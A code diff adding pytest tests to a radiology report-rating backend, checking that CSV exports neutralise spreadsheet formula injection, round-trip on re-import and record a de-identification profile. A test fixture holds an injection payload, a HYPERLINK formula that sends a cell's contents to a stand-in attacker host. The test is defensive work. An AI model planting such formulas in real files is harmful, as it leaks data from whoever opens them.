@@ -18,6 +18,7 @@ from backend import config
 from backend.cli import main
 from backend.datasets import rexval
 from backend.datasets.pairs import parse_cases
+from backend.imaging.deid import DEID_PROFILE
 from backend.services import exports
 from backend.services.errors import InvalidInput, NotFound, PermissionDenied
 from backend.services.exports import export_study
@@ -226,3 +227,64 @@ def test_commands_round_trip_and_user_errors(tmp_path, monkeypatch, capsys):
     assert main(["import-pairs", "--input", str(good), "--study", "p",
                  "--raters-per-pair", "2"]) == 0
     assert "2 pairs" in capsys.readouterr().out
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "@SUM(1)", "-1+2"]
+
+
+def test_rexval_export_neutralises_formulas_and_imports_back(any_db, tmp_path):
+    """OWASP CSV injection, on SQLite and PostgreSQL: every text cell of both ReXVal files
+    that starts with = + - @ (tab, CR) gets a leading quote, numbers do not, and importing
+    the export gives back the original texts."""
+    db = any_db
+    cases = [
+        CaseInput("+c1", FORMULAS[0], [CandidateInput(FORMULAS[1], "=gen"),
+                                       CandidateInput(FORMULAS[2], "plain")]),
+        CaseInput("c2", "Ref.", [CandidateInput("\tTabbed.", "=gen"),
+                                 CandidateInput("Cand.", "plain")]),
+    ]
+    import_cases(db, ADMIN, study_name="evil", cases=cases)
+    with db.begin() as s:
+        doc = User(username="doc", role="rater", password_hash="x")
+        s.add(doc)
+        s.flush()
+        first = s.scalar(select(Pair).where(Pair.position == 0))
+        s.add(Rating(rater_id=doc.id, pair_id=first.id, category=3, significant=False,
+                     count=1))
+    out = tmp_path / "out"
+    export_study(db, ADMIN, study_name="evil", fmt="rexval", out_dir=out)
+    with open(out / GT, encoding="utf-8", newline="") as fh:
+        gt_rows = list(csv.reader(fh))
+    assert gt_rows == [
+        ["study_id", "gt_report", "'=gen", "plain"],
+        ["'+c1", "'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2]],
+        ["c2", "Ref.", "'\tTabbed.", "Cand."],
+    ]
+    with open(out / RATINGS, encoding="utf-8", newline="") as fh:
+        rating_rows = list(csv.reader(fh))
+    assert rating_rows[1] == ["0", "'=gen", "3", "0", "False", "1"]
+    for row in rating_rows[1:]:
+        assert row[0].isdigit() and row[2].isdigit() and row[5].isdigit()
+    manifest = json.loads((out / "manifest.json").read_text())
+    assert manifest["deidentification"] == DEID_PROFILE
+    # The export imports back to the same texts, and exports again byte for byte.
+    import_rexval(db, ADMIN, gt_path=out / GT, ratings_path=out / RATINGS, study_name="again")
+    back = tmp_path / "back"
+    export_study(db, ADMIN, study_name="again", fmt="jsonl", out_dir=back)
+    pairs = [json.loads(line) for line in (back / "pairs.jsonl").read_text().splitlines()]
+    assert [(p["case_id"], p["reference"], p["source"], p["candidate"]) for p in pairs] == [
+        ("+c1", FORMULAS[0], "=gen", FORMULAS[1]), ("+c1", FORMULAS[0], "plain", FORMULAS[2]),
+        ("c2", "Ref.", "=gen", "\tTabbed."), ("c2", "Ref.", "plain", "Cand.")]
+    again = tmp_path / "again"
+    export_study(db, ADMIN, study_name="again", fmt="rexval", out_dir=again)
+    assert (again / GT).read_bytes() == (out / GT).read_bytes()
+    assert (again / RATINGS).read_bytes() == (out / RATINGS).read_bytes()
+
+
+def test_every_export_manifest_records_the_deidentification_profile(db, tmp_path):
+    _import_fixture(db)
+    for fmt in exports.FORMATS:
+        export_study(db, ADMIN, study_name="rexval", fmt=fmt, out_dir=tmp_path / fmt)
+        manifest = json.loads((tmp_path / fmt / "manifest.json").read_text())
+        assert manifest["deidentification"] == json.loads(json.dumps(DEID_PROFILE))
+        assert manifest["deidentification"]["profile"].startswith("DICOM PS3.15 Annex E")
